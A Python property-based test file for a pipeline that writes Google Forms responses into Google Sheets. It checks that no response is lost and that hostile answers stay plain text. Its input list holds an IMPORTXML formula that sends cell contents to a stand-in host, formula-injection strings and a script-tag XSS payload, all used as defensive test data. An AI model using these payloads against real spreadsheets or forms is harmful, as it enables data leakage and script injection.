"""Promise 3 and 6: whatever people send, no response is lost and no text comes alive."""

from __future__ import annotations

import json
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from connectors.forms.response import RawResponse
from connectors.ledger.response_ledger import Cursor, Recorded
from connectors.sheets.change_set import diff
from connectors.sheets.snapshot import Snapshot
from connectors.sheets.tab import Tab
from loket import columns as c
from loket.vocabulary import Form
from pipeline import tabs
from pipeline.book import Book, write_book
from pipeline.configuration.settings import Settings
from pipeline.intake.intake import Intake, responses_frame
from pipeline.questionnaires.questionnaires import questionnaires
from tests.pipeline.office_factory import (
    DRAFTED,
    OpenOffice,
    a_registration,
    at,
    copy_office,
    open_folder,
)

FORMULA = '=IMPORTXML("http://contoh.example/?"&A1;"//a")'
LONG = "50,000 characters"
"""Stands for so many, so that an example that fails can be read."""
HOSTILE = (
    "",
    " ",
    LONG,
    "😀👩‍👩‍👧 Siti",
    "\u202egnirts desrever \u0634\u0631\u0643\u0629",
    FORMULA,
    "+62812;=1+1",
    "@SUM(A1:A9)",
    "Budi\x00Santoso",
    "separuh \ud83d saja",
    "\ud800",
    "Senin, 30/02/2026",
    "31/13/2026",
    "Kamis, 01/01/1970",
    "Daftar tunggu (jadwal penuh)",
    "Layanan Perikanan 07.00–08.00",
    "CC-0000-0000",
    "1e999",
    "NaN",
    "-",
    "<script>alert(1)</script>",
    "https://contoh.example/\nbaris kedua\ttab",
)
TEXTS = st.sampled_from(HOSTILE) | st.text(st.characters(exclude_categories=()), max_size=30)
"""What a person, a broken client or a form's old option may have left; surrogates included."""


def answers_to(form: Form) -> st.SearchStrategy[dict[str, list[str]]]:
    """Answers by question key: any question may be unanswered, or answered by anything."""
    keys = [question.key for question in questionnaires(Settings().clinic)[form].questions()]
    good = (
        {
            key: [value] if isinstance(value, str) else list(value)
            for key, value in a_registration().items()
        }
        if form is Form.REGISTRATION
        else {}
    )
    return st.dictionaries(
        st.sampled_from(keys), st.lists(TEXTS, min_size=1, max_size=3), max_size=6
    ).map(lambda bad: {**good, **bad})


RESPONSES = st.fixed_dictionaries(
    {form: st.lists(answers_to(form), min_size=1, max_size=6) for form in Form}
)


@dataclass(frozen=True)
class Stood:
    """A drafted week's settings and spreadsheet."""

    settings: Settings
    snapshot: Snapshot

    def __repr__(self) -> str:
        """Say little: Hypothesis prints it with each example that fails."""
        return "Stood"


@pytest.fixture(scope="session")
def stood(drafted_original: Path, tmp_path_factory: pytest.TempPathFactory) -> Stood:
    folder = copy_office(drafted_original, tmp_path_factory.mktemp("stood"))
    with open_folder(folder) as office:
        return Stood(office.settings, office.look())


@settings(
    max_examples=5,
    deadline=None,
    phases=[Phase.explicit, Phase.reuse, Phase.generate],
    suppress_health_check=[HealthCheck.too_slow],
)
@given(RESPONSES)
def test_each_response_is_somewhere_and_nothing_comes_alive(
    stood: Stood, given_answers: dict[Form, list[dict[str, list[str]]]]
) -> None:
    taken = {form: an_intake(form, rows, stood.settings) for form, rows in given_answers.items()}
    book = write_book(stood.settings, taken, stood.snapshot, at(DRAFTED), ())
    assert book.errors == ()
    for form, found in taken.items():
        assert set(found.responses[c.CODE]) <= whereabouts(form, book)
    batch = diff(stood.snapshot, book.tabs).requests
    names = names_in(batch)
    assert "stringValue" in names
    assert "formulaValue" not in names
    assert json.dumps(batch, ensure_ascii=False).encode("utf-8"), "half a character is not sent"


def an_intake(form: Form, rows: list[dict[str, list[str]]], office: Settings) -> Intake:
    """A form's responses, a minute apart, as a full listing gives them."""
    ids = office.forms.of(form).questions
    responses = []
    for number, answers in enumerate(rows):
        moment = (at(DRAFTED) + timedelta(minutes=number)).isoformat()
        given_ = {
            ids[key]: {"textAnswers": {"answers": [{"value": spelt_out(v)} for v in values]}}
            for key, values in answers.items()
        }
        payload = {
            "responseId": f"{form}-{number}",
            "createTime": moment,
            "lastSubmittedTime": moment,
            "answers": given_,
        }
        responses.append(RawResponse.of(payload))
    frame = responses_frame(responses, questionnaires(office.clinic)[form], ids)
    recorded, reached = Recorded(len(rows), len(rows), 0, 0), Cursor(None, None)
    return Intake(form, frame, recorded, full=True, since=None, reached=reached)


def names_in(data: object) -> set[str]:
    """The names of all members of JSON data."""
    if isinstance(data, dict):
        return {*data}.union(*(names_in(value) for value in data.values()))
    if isinstance(data, list):
        return set().union(*(names_in(value) for value in data))
    return set()


def spelt_out(text: str) -> str:
    return "x" * 50_000 if text == LONG else text


def whereabouts(form: Form, book: Book) -> set[str]:
    """The codes that a form's responses have on the tabs, or that count in its figures."""
    problems = codes(book, tabs.PROBLEMS)
    if form is Form.REGISTRATION:
        return problems | codes(book, tabs.REGISTRATIONS)
    if form is Form.FEEDBACK:
        assert book.evaluations
        found = book.evaluations.feedback
        return problems | set(found.counted[c.CODE]) | set(found.superseded[c.CODE])
    assert book.halo
    return problems | set(book.halo.counted)


def codes(book: Book, tab: Tab) -> set[str]:
    rows = book.tabs[tab]
    assert isinstance(rows, pd.DataFrame)
    return set(rows[c.CODE])


def test_hostile_answers_through_the_form_stay_text(drafted: OpenOffice) -> None:
    texts = [spelt_out(text) for text in HOSTILE if text.strip() and text.isprintable()]
    for number, text in enumerate(texts):
        phone = f"0812-3000-{number:04}"
        drafted.register(name=text, business=text, problem=text, invitation_code=text, phone=phone)
        drafted.register(phone=text)
        drafted.submit(Form.FEEDBACK, {c.FEEDBACK_CODE: text, c.SUGGESTION: text})
    report = drafted.sync()
    assert (report.exit_code, report.errors) == (0, ())
    snapshot = drafted.look()
    listed = set(drafted.codes(Form.REGISTRATION))
    places = [set(snapshot.tab(tab).frame[c.CODE]) for tab in (tabs.REGISTRATIONS, tabs.PROBLEMS)]
    assert listed <= set().union(*places)
    assert set(drafted.codes(Form.FEEDBACK)) <= places[1]
    assert FORMULA in set(snapshot.tab(tabs.REGISTRATIONS).frame[c.BUSINESS])
    assert not formulas(drafted)
    assert drafted.sync().outcome == "quiet"


def formulas(office: OpenOffice) -> list[object]:
    """Every cell whose content Google would call a formula."""
    sheets = office.owner.book.fetch_sheet_metadata(
        {"fields": "sheets(data(rowData(values(userEnteredValue))))"}
    )["sheets"]
    cells = [
        cell.get("userEnteredValue", {})
        for sheet in sheets
        for block in sheet.get("data", [])
        for row in block.get("rowData", [])
        for cell in row.get("values", [])
    ]
    assert any("stringValue" in cell for cell in cells)
    return [cell for cell in cells if "formulaValue" in cell]
